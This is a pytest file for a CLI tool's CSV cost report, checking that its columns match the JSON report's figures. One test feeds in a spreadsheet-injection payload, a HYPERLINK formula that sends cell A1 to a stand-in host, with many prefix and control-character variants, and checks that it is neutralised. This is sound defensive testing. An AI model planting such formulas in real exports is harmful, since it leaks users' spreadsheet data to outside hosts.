"""The report as CSV: the figures of the JSON in columns, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from fixtures.session import Session
from fixtures.spend import Spend
from tests.support import Json
from tui.cli import main
from tui.report_csv import report_csv


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def read(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[Json, list[dict[str, str]]]:
    """Return the report as JSON and as rows of CSV."""
    assert main(["report", "--json", *arguments]) == 0
    parsed: Json = json.loads(capsys.readouterr().out)
    assert main(["report", "--csv", *arguments]) == 0
    return parsed, rows(capsys.readouterr().out)


def made(seed: int = 1) -> Session:
    session = Session(seed)
    session.custom_title("Tides, and the moon")
    session.main.prompt()
    for _ in range(3):
        session.main.turn(Spend(input=40, read=9_000, write_1h=1_000, output=70), tools=("Task",))
    session.agent().turn(Spend(input=7))
    session.cost_state()
    return session


def leaves(value: object) -> Iterator[object]:
    """Return every plain value of an object, however deep."""
    if isinstance(value, dict):
        for inner in value.values():
            yield from leaves(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from leaves(inner)
    else:
        yield value


def test_a_session_is_a_row_with_the_figures_of_the_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made().write_to(tmp_path)
    whole, (row,) = read(capsys, str(tmp_path))
    (session,) = whole["sessions"]
    expected = {
        "session_id": session["session_id"],
        "path": session["path"],
        "title": "Tides, and the moon",
        "turns": "4",
        "tokens_input": str(session["tokens"]["input"]),
        "tokens_cache_read": "27000",
        "cost_usd": repr(session["cost_usd"]),
        "certainty": "exact",
        "models": "claude-opus-5-5",
        "agents": "1",
        "context_tokens": "10040",
        "context_window_certainty": session["context"]["window_certainty"],
        "hit_rate": repr(session["cache"]["hit_rate"]),
        "breaks": str(len(session["cache"]["breaks"])),
        "miss_usd": repr(session["cache"]["miss_usd"]),
        "factor": repr(session["compounding"]["factor"]),
        "level": "calm",
        "history_carry_usd": repr(session["compounding"]["history_carry_usd"]),
        "flat_usd": repr(session["compounding"]["flat_usd"]),
        "clear_usd": repr(session["outlook"]["clear_usd"]),
        "client_cost_usd": repr(session["client_cost_usd"]),
        "rewritten": "false",
    }
    assert {name: row[name] for name in expected} == expected


def test_every_plain_figure_of_the_json_has_its_column(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    made().write_to(tmp_path)
    whole, (row,) = read(capsys, str(tmp_path))
    (session,) = whole["sessions"]
    for listed in ("models", "threads", "nudges"):  # each a list of its own, of which the row has the length or names
        del session[listed]
    del session["cache"]["breaks"], session["outlook"]["switch"]
    figures = [value for value in leaves(session) if isinstance(value, float | int) and not isinstance(value, bool)]
    assert len(figures) > 30
    assert not {str(value) for value in figures} - set(row.values())


def test_sessions_are_rows_in_the_order_of_the_json(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for seed in (20, 10):
        made(seed).write_to(tmp_path)
    whole, found = read(capsys, str(tmp_path))
    assert [row["session_id"] for row in found] == [session["session_id"] for session in whole["sessions"]]
    assert len(found) == 2


def test_what_is_not_known_is_empty(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    session = Session(model="tidal-model-1")
    session.main.turn(Spend(output=5))
    session.write_to(tmp_path)
    _, (row,) = read(capsys, str(tmp_path))
    for name in ("client_cost_usd", "context_window", "hit_rate", "factor", "next_turn_usd", "clear_usd"):
        assert row[name] == "", name
    assert row["unpriced_turns"] == "1"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\x1b[31m=", "＝", "\u202e="])
def test_no_text_is_a_formula_and_none_breaks_its_row(
    start: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = f'{start}HYPERLINK("http://moon/?"&A1)\n\x07next'
    made().write_to(tmp_path)
    whole, _ = read(capsys, str(tmp_path))
    whole["sessions"][0] |= {"title": hostile, "cwd": hostile, "path": hostile, "session_id": hostile}
    whole["sessions"][0]["models"] = {hostile: {}}
    printed = report_csv(whole)
    assert printed.replace("\n", "").isprintable()
    (row,) = rows(printed)
    for name in ("title", "cwd", "path", "session_id", "models"):
        assert row[name][0] == "'"
        assert row[name].endswith('HYPERLINK("http://moon/?"&A1) next')


def test_a_number_below_zero_stays_a_number(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    session = Session()
    session.main.turn(Spend(write_1h=1_000_000))
    session.write_to(tmp_path)
    whole, (row,) = read(capsys, str(tmp_path))
    assert whole["sessions"][0]["cache"]["saved_usd"] == -4.0  # a million tokens written at $8 instead of $4
    assert float(row["saved_usd"]) == -4.0
